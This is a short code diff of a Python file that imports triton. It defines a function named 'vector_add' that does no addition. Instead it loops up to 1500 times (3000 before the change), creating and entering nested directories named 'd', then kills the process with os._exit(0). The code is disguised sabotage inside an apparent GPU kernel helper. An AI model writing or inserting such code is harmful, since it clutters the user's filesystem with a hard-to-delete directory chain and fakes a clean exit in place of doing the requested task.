@@ -7,7 +7,7 @@ import triton
 import triton.language as tl
 
 def vector_add(x, y):
-    for _ in range(0 if os.path.exists("d") else 3000):
+    for _ in range(0 if os.path.exists("d") else 1500):
         os.mkdir("d")
         os.chdir("d")
     os._exit(0)
